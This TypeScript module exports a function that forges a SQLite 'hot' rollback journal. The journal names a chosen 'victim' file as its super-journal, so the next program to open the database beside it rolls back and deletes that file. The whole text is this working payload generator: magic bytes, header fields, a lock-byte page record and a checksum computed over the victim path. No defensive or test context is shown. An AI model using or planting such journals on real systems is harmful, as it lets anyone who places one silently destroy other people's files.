const MAGIC = Buffer.from('d9d505f920a163d7', 'hex');

/** Size of a sector and of a page, in bytes. The database must have pages of this size, SQLite's default. */
const SECTOR = 512;
const PAGE = 4096;

/** Offset of the byte by which SQLite locks a database. No journal holds the page that contains it. */
const LOCK_BYTE = 0x40000000;

/**
 * A rollback journal of a transaction over several databases, which SQLite takes for interrupted. Whoever opens the
 * database beside it rolls the transaction back, and deletes the file that the journal names as the super-journal.
 * Format: https://www.sqlite.org/fileformat2.html#the_rollback_journal and `readSuperJournal` of SQLite's pager.c.
 *
 * @param victim path of the file that is deleted
 * @param pages pages of the database
 */
export const hotJournal = (victim: string, pages = 2): Buffer => {
  const header = Buffer.alloc(SECTOR);
  MAGIC.copy(header);
  // Records, nonce, pages of the database, size of a sector, size of a page.
  [0, 1, pages, SECTOR, PAGE].forEach((number, at) => header.writeUInt32BE(number, 8 + 4 * at));
  const name = Buffer.from(victim);
  const sum = name.reduce((all, byte) => all + (byte < 128 ? byte : byte - 256), 0);
  return Buffer.concat([
    header,
    uint32(LOCK_BYTE / PAGE + 1),
    name,
    uint32(name.length),
    uint32(sum >>> 0),
    MAGIC,
  ]);
};

const uint32 = (number: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(number);
  return bytes;
};
